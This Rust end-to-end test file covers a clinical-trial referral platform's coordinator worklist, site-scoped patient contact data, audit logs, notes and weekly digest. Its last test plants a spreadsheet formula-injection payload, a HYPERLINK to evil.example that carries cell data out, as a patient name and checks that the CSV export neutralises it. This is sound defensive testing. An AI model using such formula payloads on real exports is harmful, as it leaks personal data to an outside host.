//! The coordinator's worklist, notes and weekly digest end to end, on SQLite and PostgreSQL:
//! filters, overdue referrals first, the patients' contact details for their own site's
//! coordinators only (page, CSV and API), every list view audited, append-only notes, and the
//! digest enqueued once per coordinator and week however many times or replicas run it.

use e2e::flow::{
    self, accept, api_key, document_id, form, ok, recruiting_trial, site, submit, user_id, with,
};
use e2e::flow::{Page, input_value};
use e2e::{TestApp, both};
use platform::email::{Email, Outbox};
use platform::entities::{audit_log, digest_run, email_outbox, referral};
use reqwest::Method;
use sea_orm::sea_query::Expr;
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter, QueryOrder};
use serde_json::{Value, json};
use server::enrolment::referral::digest;
use uuid::Uuid;

/// A recruiting trial (target 10) with sites A and B, each with a coordinator; two practices
/// with API keys.
struct Fx {
    trial: String,
    coordinator_a: String,
    coordinator_b: String,
    key: String,
    other_key: String,
    other_practice: Uuid,
    site_a: String,
    site_b: String,
}

async fn fixture(app: &TestApp) -> Fx {
    let (admin, sponsor) = flow::admin_and_sponsor(app).await;
    let trial = recruiting_trial(app, &admin, &sponsor, "diabetes-t2-hba1c", 10).await;
    let b = site(app, &sponsor, &trial, "CHU Marseille", Some((43.30, 5.37))).await;
    let a = site(app, &sponsor, &trial, "CHU Lille", Some((50.63, 3.06))).await;
    let practice = app.seed_organisation("Cabinet du Parc", "practice").await;
    let other_practice = app.seed_organisation("Cabinet des Lilas", "practice").await;
    let key = api_key(app, &admin, practice).await;
    let other_key = api_key(app, &admin, other_practice).await;
    Fx {
        trial,
        coordinator_a: a.cookie,
        coordinator_b: b.cookie,
        key,
        other_key,
        other_practice,
        site_a: a.id,
        site_b: b.id,
    }
}

/// Signs a consent for patient `n` named `family` at `site` through `key`'s practice;
/// returns the referral id (the newest at that site for `coordinator`).
async fn refer(
    app: &TestApp,
    fx: &Fx,
    key: &str,
    n: u8,
    family: &str,
    site: &str,
    coordinator: &str,
) -> String {
    let link = accept(app, key, &fx.trial, n).await;
    let html = app.get(&link).await.text().await.unwrap();
    let mut f = form(
        &document_id(&html),
        site,
        Some(&format!("{}@example.org", family.to_lowercase())),
    );
    f = with(f, "family_name", family);
    f = with(f, "signature", &format!("Élodie {family}"));
    let r = submit(app, &link, &f).await;
    assert_eq!(r.status(), 303, "{}", r.text().await.unwrap());
    let list = ok(app.get_referrals(coordinator, "").await).await;
    list[0]["id"].as_str().unwrap().to_string()
}

async fn list_views(app: &TestApp) -> Vec<Value> {
    audit_log::Entity::find()
        .filter(audit_log::Column::Action.eq("referral.list_viewed"))
        .order_by_asc(audit_log::Column::Seq)
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|r| serde_json::from_str(&r.after.unwrap()).unwrap())
        .collect()
}

async fn backdate(app: &TestApp, id: &str, days: i64) {
    let at = chrono::Utc::now() - chrono::Duration::days(days);
    referral::Entity::update_many()
        .col_expr(referral::Column::CreatedAt, Expr::value(at))
        .filter(referral::Column::Id.eq(id.parse::<Uuid>().unwrap()))
        .exec(&app.db)
        .await
        .unwrap();
}

both!(
    worklist_filters_overdue_first_and_site_isolation,
    |app: TestApp| async move {
        let fx = fixture(&app).await;
        let (a, b) = (&fx.coordinator_a, &fx.coordinator_b);
        let alpha = refer(&app, &fx, &fx.key, 1, "Alpha", &fx.site_a, a).await;
        let bravo = refer(&app, &fx, &fx.other_key, 2, "Bravo", &fx.site_a, a).await;
        let charlie = refer(&app, &fx, &fx.key, 3, "Charlie", &fx.site_b, b).await;
        let r = app
            .post_referral_status(a, &bravo, &json!({"status": "contacted"}))
            .await;
        assert_eq!(r.status(), 200);
        backdate(&app, &alpha, 5).await;

        // Overdue first although older; identities and contact details of site A only.
        let Page {
            status, body: html, ..
        } = app.page("/coordinator", a).await;
        assert_eq!(status, 200);
        let (pa, pb) = (html.find("Alpha").unwrap(), html.find("Bravo").unwrap());
        assert!(pa < pb, "the overdue referral comes first");
        assert!(html.contains("class=\"overdue\""));
        assert_eq!(html.matches("class=\"overdue\"").count(), 1);
        assert!(html.contains("alpha@example.org") && html.contains("+33 6 12 34 56 78"));
        assert!(!html.contains("Charlie") && !html.contains(&charlie));
        assert!(html.contains("Cabinet des Lilas"));

        // Filters.
        let only = |html: &str, yes: &[&str], no: &[&str]| {
            for y in yes {
                assert!(html.contains(y), "{y} missing");
            }
            for n in no {
                assert!(!html.contains(&format!("<td>Élodie {n}</td>")), "{n} shown");
            }
        };
        let Page { body: h, .. } = app.page("/coordinator?status=contacted", a).await;
        only(&h, &["Élodie Bravo"], &["Alpha"]);
        let Page { body: h, .. } = app
            .page(&format!("/coordinator?practice={}", fx.other_practice), a)
            .await;
        only(&h, &["Élodie Bravo"], &["Alpha"]);
        let today = chrono::Utc::now().date_naive();
        let Page { body: h, .. } = app
            .page(&format!("/coordinator?from={today}&trial={}", fx.trial), a)
            .await;
        only(&h, &["Élodie Bravo"], &["Alpha"]);
        let old = today - chrono::Duration::days(4);
        let Page { body: h, .. } = app
            .page(
                &format!("/coordinator?to={old}&site={}&status=", fx.site_a),
                a,
            )
            .await;
        only(&h, &["Élodie Alpha"], &["Bravo"]);
        // Another site's id as a filter shows nothing of it.
        let Page { body: h, .. } = app
            .page(&format!("/coordinator?site={}", fx.site_b), a)
            .await;
        only(&h, &[], &["Alpha", "Bravo", "Charlie"]);
        let Page { status, .. } = app.page("/coordinator?from=yesterday", a).await;
        assert_eq!(status, 422);

        // CSV: the same list, quoted, identities included; site B's only for B.
        let r = app
            .as_user(Method::GET, "/coordinator/referrals.csv?status=referred", a)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
        let text = r.text().await.unwrap();
        let lines: Vec<&str> = text.trim_end().split("\r\n").collect();
        assert_eq!(lines.len(), 2, "{text}");
        assert!(lines[0].starts_with("\"referral_id\","));
        assert!(lines[1].starts_with(&format!("\"{alpha}\",")));
        assert!(lines[1].contains("\"yes\",\"referred\""));
        assert!(lines[1].contains(
            "\"Élodie\",\"Alpha\",\"1961-04-02\",\"+33 6 12 34 56 78\",\"alpha@example.org\""
        ));
        let Page { body: text_b, .. } = app.page("/coordinator/referrals.csv", b).await;
        assert!(
            text_b.contains("Charlie") && !text_b.contains("Alpha") && !text_b.contains("Bravo")
        );

        // The API neither.
        let ids: Vec<String> = ok(app.get_referrals(a, "").await)
            .await
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["id"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(ids.len(), 2);
        assert!(!ids.contains(&charlie));
        // The API takes the page's filters.
        let api_ids = |query: String| {
            let app = &app;
            async move {
                let r = app.get_referrals(a, &query).await;
                ok(r)
                    .await
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|r| r["id"].as_str().unwrap().to_string())
                    .collect::<Vec<String>>()
            }
        };
        assert_eq!(api_ids("status=contacted".into()).await, [bravo.as_str()]);
        assert_eq!(
            api_ids(format!("practice={}", fx.other_practice)).await,
            [bravo.as_str()]
        );
        assert_eq!(
            api_ids(format!("from={today}&trial={}", fx.trial)).await,
            [bravo.as_str()]
        );
        assert_eq!(
            api_ids(format!("to={old}&site={}", fx.site_a)).await,
            [alpha.as_str()]
        );
        assert!(api_ids(format!("site={}", fx.site_b)).await.is_empty());
        let r = app.get_referrals(a, "from=yesterday").await;
        assert_eq!(r.status(), 422);
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["error"]["code"], "validation_failed");
        assert_eq!(body["error"]["details"][0]["path"], "$.from", "{body}");
        for path in [
            format!("/api/v1/referrals/{charlie}"),
            format!("/api/v1/referrals/{charlie}/notes"),
            format!("/coordinator/referrals/{charlie}"),
        ] {
            let r = app.as_user(Method::GET, &path, a).send().await.unwrap();
            assert_eq!(r.status(), 404, "{path}");
        }
        // A sponsor or anonymous caller gets no list.
        assert_ne!(app.get("/coordinator").await.status(), 200);
        assert_ne!(app.get("/coordinator/referrals.csv").await.status(), 200);

        // Every list view is one audit row naming the referrals shown.
        let views = list_views(&app).await;
        assert_eq!(views.len(), 8, "{views:?}");
        assert_eq!(views[0]["format"], "html");
        assert_eq!(views[0]["referrals"], json!([alpha, bravo]));
        let csv_view = views.iter().find(|v| v["format"] == "csv").unwrap();
        assert_eq!(csv_view["referrals"], json!([alpha]));
        assert_eq!(csv_view["filters"]["status"], "referred");
    }
);

both!(
    notes_are_appended_audited_and_site_scoped,
    |app: TestApp| async move {
        let fx = fixture(&app).await;
        let (a, b) = (&fx.coordinator_a, &fx.coordinator_b);
        let alpha = refer(&app, &fx, &fx.key, 1, "Alpha", &fx.site_a, a).await;
        let note = |cookie: &str, body: Value| {
            let (app, alpha, cookie) = (&app, &alpha, cookie.to_string());
            async move { app.post_referral_note(&cookie, alpha, &body).await }
        };
        let r = note(
            a,
            json!({"body": "  Left a voicemail; call back Tuesday.  "}),
        )
        .await;
        assert_eq!(r.status(), 201);
        let n = ok(r).await;
        assert_eq!(n["body"], "Left a voicemail; call back Tuesday.");
        for (body, code) in [
            (json!({"body": " "}), "required"),
            (json!({"body": "x".repeat(2001)}), "too_long"),
        ] {
            let v: Value = note(a, body).await.json().await.unwrap();
            assert_eq!(v["error"]["code"], "validation_failed");
            assert_eq!(v["error"]["details"][0]["code"], code);
            assert_eq!(v["error"]["details"][0]["path"], "$.body");
        }
        assert_eq!(note(b, json!({"body": "not mine"})).await.status(), 404);
        assert_eq!(app.get_referral_notes(b, &alpha).await.status(), 404);

        // The page's form: CSRF first, then the note shown under the first one.
        let Page { body: html, .. } = app
            .page(&format!("/coordinator/referrals/{alpha}"), a)
            .await;
        assert!(html.contains("Left a voicemail; call back Tuesday."));
        let csrf = input_value(&html, "csrf_token");
        let post_note = |token: String, body: &str| {
            app.as_user(
                Method::POST,
                &format!("/coordinator/referrals/{alpha}/notes"),
                a,
            )
            .form(&[("csrf_token", token), ("body", body.to_string())])
            .send()
        };
        assert_eq!(
            post_note("AAAA".into(), "forged").await.unwrap().status(),
            403
        );
        let r = post_note(csrf.clone(), "Patient called back <b>yes</b>")
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        let r = post_note(csrf.clone(), "").await.unwrap();
        assert_eq!(r.status(), 422);
        assert!(r.text().await.unwrap().contains("id=\"note-error\""));
        // The status form: a missing reason is 422, a jump the workflow forbids 409; both
        // show the page with the error, and nothing changes.
        let post_status = |fields: Vec<(&'static str, String)>| {
            app.as_user(Method::POST, &format!("/coordinator/referrals/{alpha}"), a)
                .form(&fields)
                .send()
        };
        for (to, status) in [("screen_failed", 422), ("enrolled", 409)] {
            let r = post_status(vec![("csrf_token", csrf.clone()), ("status", to.into())])
                .await
                .unwrap();
            assert_eq!(r.status(), status, "{to}");
            assert!(r.text().await.unwrap().contains("id=\"change-error\""));
        }
        let notes = ok(app.get_referral_notes(a, &alpha).await).await;
        let bodies: Vec<&str> = notes
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["body"].as_str().unwrap())
            .collect();
        assert_eq!(
            bodies,
            [
                "Left a voicemail; call back Tuesday.",
                "Patient called back <b>yes</b>"
            ]
        );
        let Page { body: html, .. } = app
            .page(&format!("/coordinator/referrals/{alpha}"), a)
            .await;
        assert!(
            html.contains("Patient called back &#60;b&#62;yes&#60;/b&#62;")
                || html.contains("Patient called back &lt;b&gt;")
        );
        let audited = audit_log::Entity::find()
            .filter(audit_log::Column::Action.eq("referral.note_added"))
            .count(&app.db)
            .await
            .unwrap();
        assert_eq!(audited, 2);
    }
);

both!(
    weekly_digest_once_per_coordinator_and_week,
    |app: TestApp| async move {
        let fx = fixture(&app).await;
        let (a, b) = (&fx.coordinator_a, &fx.coordinator_b);
        let alpha = refer(&app, &fx, &fx.key, 1, "Alpha", &fx.site_a, a).await;
        let bravo = refer(&app, &fx, &fx.other_key, 2, "Bravo", &fx.site_a, a).await;
        refer(&app, &fx, &fx.key, 3, "Charlie", &fx.site_b, b).await;
        backdate(&app, &alpha, 10).await; // overdue, no longer new
        for to in ["contacted", "screening", "enrolled"] {
            let r = app
                .post_referral_status(a, &bravo, &json!({"status": to}))
                .await;
            assert_eq!(r.status(), 200);
        }
        let now = chrono::Utc::now();
        let (uid_a, uid_b) = (user_id(&app, a).await, user_id(&app, b).await);
        let digest_a = digest::compose(&app.db, &app.settings, uid_a.parse().unwrap(), now)
            .await
            .unwrap();
        assert_eq!((digest_a.new_referrals, digest_a.overdue), (1, 1));
        assert_eq!(digest_a.trials.len(), 1);
        assert_eq!(
            (digest_a.trials[0].enrolled, digest_a.trials[0].target),
            (1, Some(10))
        );
        assert_eq!(digest_a.week, digest::iso_week(now));
        let digest_b = digest::compose(&app.db, &app.settings, uid_b.parse().unwrap(), now)
            .await
            .unwrap();
        assert_eq!((digest_b.new_referrals, digest_b.overdue), (1, 0));
        let text = digest_a.render(platform::email::Locale::En).unwrap().text;
        assert!(!text.contains("Alpha") && !text.contains("Élodie"));
        assert!(text.contains("New referrals in the last 7 days: 1"));

        // Two concurrent runs (as two replicas would), then a third: one digest each.
        let outbox = Outbox::from_settings(&app.settings);
        let (x, y) = tokio::join!(
            digest::run(&app.db, &outbox, &app.settings, now),
            digest::run(&app.db, &outbox, &app.settings, now)
        );
        assert_eq!(x.unwrap() + y.unwrap(), 2);
        assert_eq!(
            digest::run(&app.db, &outbox, &app.settings, now)
                .await
                .unwrap(),
            0
        );
        let queued = email_outbox::Entity::find()
            .filter(email_outbox::Column::Kind.eq("weekly_digest"))
            .count(&app.db)
            .await
            .unwrap();
        assert_eq!(queued, 2);
        assert_eq!(digest_run::Entity::find().count(&app.db).await.unwrap(), 2);
        // Next week, again once.
        let next = now + chrono::Duration::days(7);
        assert_eq!(
            digest::run(&app.db, &outbox, &app.settings, next)
                .await
                .unwrap(),
            2
        );
        assert_eq!(
            digest::run(&app.db, &outbox, &app.settings, next)
                .await
                .unwrap(),
            0
        );
    }
);

/// The server's own task sends the digest when enabled and due (Monday 00:00 UTC: always).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_task_enqueues_the_digest_once() {
    let settings = e2e::fresh_settings(e2e::Backend::Sqlite).await;
    let first = e2e::spawn_on(settings.clone()).await;
    let fx = fixture(&first).await;
    refer(
        &first,
        &fx,
        &fx.key,
        1,
        "Alpha",
        &fx.site_a,
        &fx.coordinator_a,
    )
    .await;
    let mut enabled = settings;
    enabled.referrals.digest_enabled = true;
    enabled.referrals.digest_weekday = platform::config::Weekday::Mon;
    enabled.referrals.digest_hour_utc = 0;
    // Two replicas on one database.
    let one = e2e::spawn_on(enabled.clone()).await;
    let _two = e2e::spawn_on(enabled).await;
    e2e::mail::eventually(
        "two digests",
        std::time::Duration::from_secs(15),
        || async {
            let n = digest_run::Entity::find().count(&one.db).await.unwrap();
            (n == 2).then_some(())
        },
    )
    .await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let queued = email_outbox::Entity::find()
        .filter(email_outbox::Column::Kind.eq("weekly_digest"))
        .count(&one.db)
        .await
        .unwrap();
    assert_eq!(queued, 2);
}

both!(csv_export_neutralises_formulas, |app: TestApp| async move {
    let fx = fixture(&app).await;
    let family = "-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")";
    let link = accept(&app, &fx.key, &fx.trial, 41).await;
    let html = app.get(&link).await.text().await.unwrap();
    let mut f = form(&document_id(&html), &fx.site_a, None);
    f = with(f, "family_name", family);
    f = with(f, "signature", &format!("Élodie {family}"));
    let r = submit(&app, &link, &f).await;
    assert_eq!(r.status(), 303, "{}", r.text().await.unwrap());
    let r = app
        .as_user(Method::GET, "/coordinator/referrals.csv", &fx.coordinator_a)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert!(
        text.contains(
            "\"Élodie\",\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&I2;\"\"open\"\")\""
        ),
        "{text}"
    );
    // The phone number stays as written.
    assert!(text.contains("\"+33 6 12 34 56 78\""), "{text}");
});
